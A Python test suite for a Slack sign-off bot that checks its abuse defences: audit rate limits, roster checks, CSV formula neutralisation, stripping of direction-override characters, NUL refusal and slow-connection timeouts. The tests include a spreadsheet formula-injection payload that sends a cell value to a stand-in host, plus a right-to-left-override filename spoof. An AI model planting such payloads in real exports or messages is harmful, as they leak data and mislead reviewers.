"""Abuse: refused API calls cannot grow the database without bound yet stay visible in the
audit; the summary can be posted only by people on the roster, once a minute; CSV exports
cannot smuggle formulas into a spreadsheet; direction overrides and NUL never reach a reader;
idle and half-sent connections are closed."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import sqlite3
import subprocess
import sys
from datetime import timedelta
from pathlib import Path

from bot.slack import ids
from tests.fakes.driver import form_values, reason_values
from tests.harness import Harness


async def audit_rows(h: Harness) -> int:
    row = await h.fetchone("SELECT COUNT(*) FROM audit")
    assert row is not None
    return int(row[0])


async def test_a_flood_of_bad_tokens_writes_a_bounded_number_of_rows(h: Harness) -> None:
    before = await audit_rows(h)
    results = await asyncio.gather(*(h.api("GET", "/api/v1/requests/CR-1", token="wrong" * 6) for _ in range(300)))
    assert {status for status, _ in results} == {401}
    assert await audit_rows(h) - before == 1  # one row for this source this minute
    h.clock.advance(timedelta(minutes=1))
    await h.api("GET", "/api/v1/requests/CR-1", token="wrong" * 6)
    rows = await h.fetchall("SELECT actor, reason, details FROM audit WHERE action = 'refused' ORDER BY id")
    repeated = [json.loads(r["details"]).get("repeated") for r in rows]
    assert repeated == [None, 299, None]  # every refused call is accounted for
    assert {r["reason"] for r in rows} == {"bad_token"} and rows[0]["actor"].startswith("api:")


async def test_only_people_on_the_roster_post_the_summary_once_a_minute(h: Harness) -> None:
    stranger = (await h.driver.command("U0NOBODY", "summary")).json()["text"]
    assert "roster" in stranger
    first = (await h.driver.command("U0JUNIOR1", "summary")).json()["text"]
    assert first.startswith("Posting the pending summary")
    await h.settle()
    again = (await h.driver.command("U0SENIOR1", "summary")).json()["text"]
    assert "less than a minute ago" in again and "https://slack.com/archives/C0SIGNOFF/p" in again
    await h.settle()
    assert len([m for m in h.slack.posts_in("C0SIGNOFF") if m.text.startswith("Pending sign-offs")]) == 1
    h.clock.advance(timedelta(minutes=1))
    assert (await h.driver.command("U0SENIOR1", "summary")).json()["text"].startswith("Posting")
    assert await h.audit_actions("refused") == 1  # the stranger


async def test_csv_export_neutralises_formulas(h: Harness) -> None:
    ref = await h.ask()
    formula = '=HYPERLINK("http://x.example/?"&A1,"Details")'
    reply = await h.driver.submit("U0SENIOR1", ids.DENY_FORM, reason_values(formula), private_metadata=ref[3:])
    assert reply.text == ""
    await h.settle()
    out = subprocess.run(  # noqa: ASYNC221 - a short CLI run, nothing else to do meanwhile
        [sys.executable, "-m", "bot", "audit", "export", "--database", str(h.tmp / "signoff.db")],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    cells = [cell for row in csv.reader(io.StringIO(out)) for cell in row]
    assert "'" + formula in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


async def test_direction_overrides_never_reach_a_reviewer(h: Harness) -> None:
    title = "Fix typo \u202egnp.exe\u202c in docs"
    await h.ask(title=title, description="line one\u2066 hidden\u2069 and \x07 bell")
    dm = h.review_dm("U0SENIOR1", "CR-1")
    shown = json.dumps(dm.blocks, ensure_ascii=False) + dm.text
    for bad in ("\u202e", "\u202c", "\u2066", "\u2069", "\x07"):
        assert bad not in shown
    assert "\ufffd" in shown


async def test_nul_in_a_title_is_refused_on_the_field(h: Harness) -> None:
    reply = await h.driver.submit("U0JUNIOR1", ids.REQUEST_FORM, form_values(title="bad\x00title"))
    body = reply.json()
    assert body["response_action"] == "errors" and "NUL" in body["errors"]["title"]
    conn = sqlite3.connect(Path(h.tmp / "signoff.db"))
    assert conn.execute("SELECT COUNT(*) FROM requests").fetchone()[0] == 0
    conn.close()


async def test_a_half_sent_request_is_closed_by_the_server(h: Harness) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", h.bot.port)
    writer.write(b"POST /api/v1/requests HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\n{")
    await writer.drain()
    closed = await asyncio.wait_for(reader.read(), timeout=120)  # EOF (or an error reply) once the server gives up
    writer.close()
    assert closed == b"" or closed.startswith(b"HTTP/1.1 4")


async def test_an_idle_connection_is_closed_by_the_server(h: Harness) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", h.bot.port)
    writer.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")  # headers never finished
    await writer.drain()
    closed = await asyncio.wait_for(reader.read(), timeout=120)
    writer.close()
    assert closed == b"" or closed.startswith(b"HTTP/1.1 4")
